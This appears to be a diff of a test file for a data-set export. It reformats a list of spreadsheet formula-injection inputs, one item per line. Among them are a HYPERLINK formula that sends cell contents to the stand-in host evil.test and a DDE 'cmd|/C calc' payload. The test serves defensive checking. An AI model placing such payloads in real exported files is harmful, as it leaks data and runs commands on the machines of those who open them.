@@ -16,8 +16,19 @@ const manager = portalCalls(service).as(`manager:${await aManager(service, { pro
 
 /** What a colleague's spreadsheet would run, and texts that only look like what we make of it. */
 const NAMES = [
-  ...['=HYPERLINK("https://evil.test/?"&A1,"Paris")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(1;2)', '\t=1', '\r=1', '\n=1'],
-  ...['＝1+1', "'=1+1", "''@x", "'quoted'", "rock 'n' =roll", '-'],
+  '=HYPERLINK("https://evil.test/?"&A1,"Paris")',
+  '+1+cmd|/C calc!A0',
+  '-2+3',
+  '@SUM(1;2)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '＝1+1',
+  "'=1+1",
+  "''@x",
+  "'quoted'",
+  "rock 'n' =roll",
+  '-',
 ]
 
 describe('the export of a data set', () => {
